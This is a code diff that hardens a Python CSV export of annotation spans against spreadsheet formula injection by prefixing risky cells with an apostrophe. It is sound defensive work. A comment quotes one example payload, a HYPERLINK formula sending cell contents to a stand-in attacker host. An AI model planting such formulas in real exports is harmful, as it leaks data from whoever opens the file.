@@ -288,8 +288,22 @@ def relations_cell(relations: Iterable[ExportRelation]) -> str:
     return ";".join(f"{relation.type}:{relation.target}" for relation in relations)
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula, so a note such as
+# =HYPERLINK("https://evil.example/?"&A2) would act on whoever opens the export (CSV injection).
+_FORMULA_FIRST = frozenset("=+-@\t\r")
+
+
+def csv_text(value: str) -> str:
+    """Return text for a CSV cell: with a leading apostrophe when a spreadsheet would run it.
+
+    Spreadsheets show the apostrophe-led cell as the text after it; JSON Lines keeps the exact
+    value for programs.
+    """
+    return "'" + value if value and value[0] in _FORMULA_FIRST else value
+
+
 def csv_export(*, spans: Iterable[ExportSpan]) -> Iterator[bytes]:
-    """Yield the CSV export: a header row, then one row per span."""
+    """Yield the CSV export: a header row, then one row per span (text cells via csv_text)."""
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\r\n")
 
@@ -302,19 +316,19 @@ def csv_export(*, spans: Iterable[ExportSpan]) -> Iterator[bytes]:
                     span.id,
                     span.document.id,
                     span.document.sha256,
-                    span.layer,
-                    span.annotator or "",
+                    csv_text(span.layer),
+                    csv_text(span.annotator or ""),
                     span.start,
                     span.end,
-                    span.quote,
-                    span.stance,
-                    span.role,
+                    csv_text(span.quote),
+                    csv_text(span.stance),
+                    csv_text(span.role),
                     "" if actor is None else actor.id,
-                    "" if actor is None else actor.name,
-                    span.note,
-                    relations_cell(span.relations),
+                    "" if actor is None else csv_text(actor.name),
+                    csv_text(span.note),
+                    csv_text(relations_cell(span.relations)),
                     span.version,
-                    span.created_by,
+                    csv_text(span.created_by),
                     span.created_at,
                     span.updated_at,
                 )
